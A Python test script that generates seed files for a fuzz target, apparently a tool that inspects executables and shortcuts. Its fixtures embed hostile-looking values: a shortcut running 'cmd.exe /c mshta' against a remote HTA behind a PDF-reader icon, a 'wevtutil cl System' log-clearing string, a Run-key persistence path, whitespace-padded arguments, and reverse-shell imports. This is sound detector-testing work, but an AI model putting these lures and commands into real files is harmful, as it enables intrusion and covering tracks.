#!/usr/bin/env python3
"""Makes the seeds of the fuzz target "program", which its test reads too.  usage: tests/corpus/make_programs.py"""
import pathlib
import sys

here = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(here.parent / "lib"))
from make_files import INJECTS, PLAIN, elf, icon, lnk, macho, noise, pe, version  # noqa: E402

out = here / "program"
words = (b"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\0http://files.example.com/a.bin\0" +
         b"\x01" + "cmd.exe /c start".encode("utf-16le") + b"\0\0\x01wevtutil cl System\0http://schemas.microsoft.com/x\0")
seeds = {
    "plain.exe": pe(libraries=PLAIN, kinds={16: version(CompanyName="Example Ltd", OriginalFilename="plain.exe")}),
    "injects.exe": pe(libraries=INJECTS, kinds={3: icon((40, 40, 220)), 16: version(ProductName="发票")},
                      overlay=b"PK\x03\x04" + b"\0" * 600),
    "packed.exe": pe(sections=[(b"UPX0", 0xE0000080, b""), (b"UPX1", 0xE0000040, noise(4096))], entry=0x2000),
    "words.exe": pe(sections=[(b".text", 0x60000020, words.ljust(1024, b"\0"))], entry=0x1000),
    "signed.exe": pe(libraries=PLAIN, signature=b"http://ocsp.example.com/ http://ca.example.com/".ljust(256, b"\0")),
    "astray.exe": pe(libraries=PLAIN, entry=0x9000),
    "cut.exe": pe(libraries=PLAIN)[:700],
    "shell.lnk": lnk("C:\\Windows\\System32\\cmd.exe", "/c mshta https://example.com/x.hta", "C:\\a\\AcroRd32.exe", show=7),
    "plain.lnk": lnk("C:\\Program Files\\Example\\editor.exe", "notes.txt"),
    "blanks.lnk": lnk("C:\\Windows\\System32\\cmd.exe", " " * 300 + "/c calc", trailer=b"x" * 100),
    "share.url": b"[InternetShortcut]\r\nURL=file://files.example.com/share/a.exe\r\nIconFile=\\\\files.example.com\\i.ico\r\n",
    "web.url": b"[InternetShortcut]\nURL=https://example.com/page\n",
    "tool.elf": elf(["execve", "dup2", "socket", "connect"]),
    "app.macho": macho(),
}
out.mkdir(exist_ok=True)
for name, content in seeds.items():
    (out / name).write_bytes(content)
